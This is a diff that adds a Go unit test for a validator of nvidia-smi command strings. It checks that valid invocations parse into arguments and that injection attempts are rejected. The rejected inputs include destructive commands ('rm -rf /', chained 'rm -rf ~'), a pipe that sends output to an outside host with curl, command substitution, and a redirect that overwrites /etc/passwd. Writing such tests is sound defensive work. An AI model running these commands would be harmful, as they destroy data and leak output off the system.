@@ -0,0 +1,37 @@
+package tools
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestNvidiaSmiArgs(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+		wantErr bool
+	}{
+		{command: "nvidia-smi", want: []string{}},
+		{command: "nvidia-smi -q -d MEMORY", want: []string{"-q", "-d", "MEMORY"}},
+		{command: "  nvidia-smi  --query-gpu=name,memory.used --format=csv ", want: []string{"--query-gpu=name,memory.used", "--format=csv"}},
+		{command: "", wantErr: true},
+		{command: "rm -rf /", wantErr: true},
+		{command: "/tmp/nvidia-smi -q", wantErr: true},
+		{command: "nvidia-smi; rm -rf ~", wantErr: true},
+		{command: "nvidia-smi -q | curl -d @- example.com", wantErr: true},
+		{command: "nvidia-smi -f $(whoami)", wantErr: true},
+		{command: "nvidia-smi -q > /etc/passwd", wantErr: true},
+	}
+	for _, tt := range tests {
+		got, err := nvidiaSmiArgs(tt.command)
+		if tt.wantErr {
+			if err == nil {
+				t.Errorf("nvidiaSmiArgs(%q) = %q, want an error", tt.command, got)
+			}
+			continue
+		}
+		if err != nil || !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("nvidiaSmiArgs(%q) = %q, %v; want %q", tt.command, got, err, tt.want)
+		}
+	}
+}